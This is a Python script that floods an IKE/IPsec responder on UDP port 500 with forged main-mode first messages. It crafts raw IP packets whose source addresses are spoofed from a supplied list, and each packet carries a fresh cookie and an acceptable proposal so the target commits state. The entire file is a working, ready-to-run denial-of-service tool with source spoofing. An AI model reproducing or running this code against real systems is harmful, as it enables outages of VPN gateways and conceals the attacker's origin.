"""
First messages of main mode from many addresses: flood.py TARGET SOURCES COUNT.

SOURCES is a file of one address a line; COUNT messages go out, each source in its turn, each with a
cookie of its own and a proposal that the target would take (AES-128, SHA-1, pre-shared, group 2).
"""
import os
import socket
import struct
import sys

ATTRIBUTES = [(1, 7), (2, 2), (3, 1), (4, 2), (14, 128), (11, 1)]


def first_message():
    transform = struct.pack("!BBH", 1, 1, 0) + b"".join(
        struct.pack("!HH", 0x8000 | kind, value) for kind, value in ATTRIBUTES
    )
    transform += struct.pack("!HHI", 12, 4, 86400)
    transform = struct.pack("!BBH", 0, 0, len(transform) + 4) + transform
    proposal = struct.pack("!BBHBBBB", 0, 0, len(transform) + 8, 1, 1, 0, 1) + transform
    sa = struct.pack("!BBHII", 0, 0, len(proposal) + 12, 1, 1) + proposal
    cookie = os.urandom(8)
    return cookie + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(sa)) + sa


def datagram(source, target):
    payload = first_message()
    udp = struct.pack("!HHHH", 500, 500, len(payload) + 8, 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    return head + socket.inet_aton(source) + socket.inet_aton(target) + udp


target, sources, count = sys.argv[1], open(sys.argv[2]).read().split(), int(sys.argv[3])
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for n in range(count):
    out.sendto(datagram(sources[n % len(sources)], target), (target, 0))
